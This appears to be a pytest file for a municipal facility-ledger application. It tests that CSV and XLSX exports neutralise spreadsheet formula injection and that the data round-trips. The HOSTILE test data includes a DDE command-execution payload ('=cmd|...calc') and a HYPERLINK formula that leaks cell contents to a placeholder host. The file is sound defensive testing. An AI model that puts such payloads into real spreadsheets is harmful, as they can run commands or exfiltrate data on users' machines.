"""Formula injection (issue #11 §3): a facility named =HYPERLINK(…) or =cmd|' /C calc'!A0 must never become a
live formula in any CSV or XLSX gunmane writes — and the ledger export must still import back unchanged.

One helper (gunmane.io.safe_cells) is used by every writer; the last test checks that every module that writes
CSV or XLSX uses it.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from gunmane.io.ledger import export as ledger_export
from gunmane.io.ledger.reader import LedgerReader
from gunmane.io.ledger.schema import LedgerKind
from gunmane.io.safe_cells import FORMULA_TRIGGERS, neutralise_workbook, safe_cell, safe_row, unescape_cell

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(1,1)",
    "'=already quoted by the user",
    "=1+2 大宇陀橋",
]
TRIGGER_TEXT = st.text(max_size=20) | st.sampled_from(HOSTILE) | st.builds(
    lambda t, s: t + s, st.sampled_from(FORMULA_TRIGGERS + ("'", "''")), st.text(max_size=10))


def test_the_owasp_rule_text_is_quoted_numbers_are_not() -> None:
    assert safe_cell("=SUM(A1)") == "'=SUM(A1)" and safe_cell("+81") == "'+81" and safe_cell("@x") == "'@x"
    assert safe_cell("\t=1") == "'\t=1" and safe_cell("\r=1") == "'\r=1" and safe_cell("-1") == "'-1"
    assert safe_cell("大宇陀橋") == "大宇陀橋" and safe_cell("'abc") == "'abc" and safe_cell("") == ""
    assert safe_cell(-1) == -1 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None
    assert safe_cell(date(2024, 1, 1)) == date(2024, 1, 1) and safe_cell(True) is True
    assert safe_cell("'=x") == "''=x"  # typed with its own quote: one more, so that it comes back as typed
    assert safe_row(["=1", 5, None]) == ["'=1", 5, None]


@given(TRIGGER_TEXT)
def test_unescape_is_the_exact_inverse(text: str) -> None:
    written = safe_cell(text)
    assert unescape_cell(written) == text
    assert not str(written).startswith(FORMULA_TRIGGERS)


def test_neutralise_workbook_turns_formula_cells_back_into_text() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["=1+2", -3, "名前", "@x", safe_cell("=y")])
    assert ws["A1"].data_type == "f"  # what openpyxl does with a text starting with =
    assert neutralise_workbook(wb) == 2
    assert (ws["A1"].value, ws["A1"].data_type, ws["B1"].value, ws["D1"].value) == ("'=1+2", "s", -3, "'@x")
    assert ws["E1"].value == "'=y"  # already safe: not quoted twice


# -- the ledger export and its way back ------------------------------------------------------------------
def _records() -> list[dict[str, Any]]:
    out = []
    for i, name in enumerate(HOSTILE, start=1):
        out.append({"lg_code": "292125", "facility_id": f"BR-{i:03d}" if i != 3 else "-003", "name": name,
                    "sector": "道路", "facility_type": "橋梁", "built_year": 1960 + i, "length_m": 10.5 + i,
                    "width_m": None, "area_m2": None, "lat": 34.5, "lon": 135.9, "route": "@市道1号線",
                    "address": "", "structure": "", "national_id": "", "note": "-補修済み",
                    "is_synthetic": False, "attributes": {"=管理区分": "+A", "独自項目": HOSTILE[i % len(HOSTILE)]}})
    return out


def _write(fmt: str, path: Path, records: list[dict[str, Any]]) -> Path:
    attrs = ["=管理区分", "独自項目"]
    if fmt == "xlsx":
        path.write_bytes(ledger_export.to_bytes_xlsx(LedgerKind.FACILITIES, records, attribute_names=attrs))
    else:
        with path.open("w", encoding=fmt, newline="") as fh:
            ledger_export.write_csv(LedgerKind.FACILITIES, records, fh, attribute_names=attrs)
    return path


@pytest.mark.parametrize("fmt", ["utf-8-sig", "cp932"])
def test_ledger_csv_export_has_no_live_formula(tmp_path: Path, fmt: str) -> None:
    path = _write(fmt, tmp_path / "f.csv", _records())
    rows = list(csv.reader(path.open(encoding=fmt, newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert "'=cmd|' /C calc'!A0" in cells and "''=already quoted by the user" in cells
    assert "'=管理区分" in rows[0]
    assert rows[1][5] == "1961"  # numbers are written as numbers


def test_ledger_xlsx_export_has_no_formula_cell_and_numbers_stay_numbers(tmp_path: Path) -> None:
    wb = load_workbook(_write("xlsx", tmp_path / "f.xlsx", _records()))
    ws = wb.active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
    names = [c.value for c in ws["C"]][1:]
    assert names[0] == "'" + HOSTILE[0] and names[1] == "'=cmd|' /C calc'!A0"
    assert ws["F2"].data_type == "n" and ws["F2"].value == 1961 and ws["G2"].value == 11.5


@pytest.mark.parametrize("fmt", ["utf-8-sig", "cp932", "xlsx"])
def test_hostile_names_import_back_exactly_as_typed(tmp_path: Path, fmt: str) -> None:
    records = _records()
    path = _write(fmt, tmp_path / ("f.xlsx" if fmt == "xlsx" else "f.csv"), records)
    read = [r.record for r in LedgerReader(path, LedgerKind.FACILITIES)]
    assert [r["name"] for r in read] == [r["name"] for r in records]
    assert [r["facility_id"] for r in read] == [r["facility_id"] for r in records]
    assert {r["route"] for r in read} == {"@市道1号線"} and {r["note"] for r in read} == {"-補修済み"}
    assert [r["attributes"] for r in read] == [r["attributes"] for r in records]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_of_a_hostile_ledger_imports_back_unchanged(refdata, tmp_path: Path, fmt: str) -> None:  # type: ignore[no-untyped-def]
    """Through the web importer: a file as a user typed it (live formulas and all) goes in, the export of
    what went in is neutralised, and importing that export changes nothing."""
    from gunmane.web.registry import exporting
    from gunmane.web.registry.imports.ledger import LedgerImporter
    from gunmane.web.registry.models import Facility, Municipality

    muni = Municipality.objects.get(lg_code="292125")
    typed = tmp_path / "typed.csv"
    with typed.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)  # not neutralised: what a user's own spreadsheet may contain
        w.writerow(["施設ID", "施設名", "施設種別", "建設年度", "路線名", "備考"])
        for i, name in enumerate(HOSTILE, start=1):
            w.writerow([f"BR-{i:03d}", name, "橋梁", 1960 + i, "@市道1号線", "-1+2"])
    first = LedgerImporter("facilities", typed, municipality=muni).run()
    assert first.status == "ok" and first.created == len(HOSTILE), first.as_json()["errors"][:3]
    # Stored as typed; a quote the user typed before = is read as Excel reads it (text marker), as =.
    stored = sorted(Facility.objects.filter(manager=muni).values_list("name", flat=True))
    assert stored == sorted(unescape_cell(n) for n in HOSTILE)
    out = tmp_path / f"export.{fmt}"
    recs = exporting.records(LedgerKind.FACILITIES, muni)
    attrs = exporting.attribute_names(muni)
    if fmt == "xlsx":
        out.write_bytes(ledger_export.to_bytes_xlsx(LedgerKind.FACILITIES, recs, attribute_names=attrs))
    else:
        with out.open("w", encoding="utf-8-sig", newline="") as fh:
            ledger_export.write_csv(LedgerKind.FACILITIES, recs, fh, attribute_names=attrs)
    again = LedgerImporter("facilities", out, municipality=muni).run()
    assert again.status == "ok", again.as_json()["errors"][:3]
    assert (again.created, again.updated, again.unchanged) == (0, 0, len(HOSTILE))


# -- the other writers ------------------------------------------------------------------------------------
def _no_live_formula(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)):
                    bad.append(f"{ws.title}!{c.coordinate}={c.value!r}")
    return bad


def test_lot_annex_of_the_specification(tmp_path: Path) -> None:
    from gunmane.io.documents.spec import spec_annex_xlsx
    from tests.io.test_documents import LOT_A, nara_input

    facilities = tuple(dataclasses.replace(f, name=HOSTILE[i], route="-") for i, f in enumerate(LOT_A.facilities))
    lot = dataclasses.replace(LOT_A, facilities=facilities, name="=ロット名")
    data = spec_annex_xlsx(nara_input(lots=(lot,), group_name="@奈良モデル地域"), "L1")
    assert _no_live_formula(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    assert "'" + HOSTILE[0] in [c.value for c in ws["E"]]


def test_karte_workbook() -> None:
    from gunmane.engine.indicator_types import Scope
    from gunmane.io.reports.karte_xlsx import karte_xlsx
    from tests.io.test_karte_outputs import uda

    karte = uda()
    karte.scope = Scope(karte.scope.kind, karte.scope.code, HOSTILE[0])
    karte.notes = ["=cmd|' /C calc'!A0"]
    buf = io.BytesIO()
    karte_xlsx(karte, buf)
    assert _no_live_formula(buf.getvalue()) == []


def test_survey_exports_use_the_shared_helper() -> None:
    from gunmane.io.reports.survey_export import (
        LinkRow,
        links_csv,
        links_xlsx,
        responses_csv,
        responses_xlsx,
        safe_text,
    )
    from tests.io.test_survey_io import ROWS, SPEC

    assert safe_text is safe_cell
    spec = dataclasses.replace(SPEC, name_label="=会社名", questions=(
        dataclasses.replace(SPEC.questions[0], text="=HYPERLINK(\"x\")設問"), *SPEC.questions[1:]))
    assert _no_live_formula(responses_xlsx(spec, ROWS)) == []
    links = [LinkRow("=会社", ("+1",), "https://example.invalid/s/1", date(2026, 12, 25), "未回答")]
    assert _no_live_formula(links_xlsx(spec, links)) == []
    for data in (responses_csv(spec, ROWS), links_csv(spec, links)):
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
        assert "'=会社名" in cells


def test_import_issue_report() -> None:
    from datetime import datetime

    from gunmane.io.reports.issues_xlsx import issues_xlsx

    buf = io.BytesIO()
    issues_xlsx(buf, file_name="=台帳.csv", kind_label="施設", imported_at=datetime(2026, 1, 2, 3, 4),
                errors=[{"row": 3, "column": "施設名", "value": HOSTILE[0], "code": "x", "message": "-"}],
                warnings=[{"row": None, "column": "", "value": "", "code": "w", "message": "@ファイル"}])
    assert _no_live_formula(buf.getvalue()) == []
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    assert wb.sheetnames == ["エラー", "警告"]
    assert [c.value for c in wb["エラー"][3]] == [3, "施設名", "'" + HOSTILE[0], "x", "'-"]
    assert wb["エラー"]["A1"].value == "'=台帳.csv のエラー一覧（施設・2026-01-02 03:04）"
    assert [c.value for c in wb["警告"][3]] == ["ファイル", None, None, "w", "'@ファイル"]


def test_municipal_table() -> None:
    from gunmane.engine.indicators import INDICATORS
    from gunmane.io.reports.municipal_table import municipal_table_csv, municipal_table_xlsx

    defs = list(INDICATORS[:2])
    rows = [["292125", HOSTILE[1], "29", "市", -1.5, None]]
    buf = io.BytesIO()
    municipal_table_xlsx(buf, defs, rows)
    assert _no_live_formula(buf.getvalue()) == []
    ws = load_workbook(io.BytesIO(buf.getvalue()))["市区町村"]
    assert [c.value for c in ws[2]] == ["292125", "'" + HOSTILE[1], "29", "市", -1.5, None]  # unknown: blank
    out = io.StringIO()
    municipal_table_csv(out, defs, rows)
    lines = list(csv.reader(io.StringIO(out.getvalue())))
    assert lines[1] == ["292125", "'" + HOSTILE[1], "29", "市", "-1.5", ""] and lines[-1][0].startswith("出典：")


# Writers outside the files of this change: the one-line hook is added when the branches are merged.
PENDING_HOOKS: dict[str, str] = {}
WRITES = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|Workbook\(")
GUARDED = re.compile(r"safe_csv_writer|safe_row|safe_cell|neutralise_workbook|safe_text")


def test_every_module_that_writes_csv_or_xlsx_uses_the_helper() -> None:
    unguarded = []
    for path in sorted((REPO / "gunmane").rglob("*.py")):
        rel = path.relative_to(REPO).as_posix()
        text = path.read_text(encoding="utf-8")
        if rel == "gunmane/io/safe_cells.py" or not WRITES.search(text):
            continue
        if rel == "gunmane/io/ledger/template.py":  # the import template: fixed headers and examples only
            continue
        if not GUARDED.search(text) and rel not in PENDING_HOOKS:
            unguarded.append(rel)
    assert unguarded == []
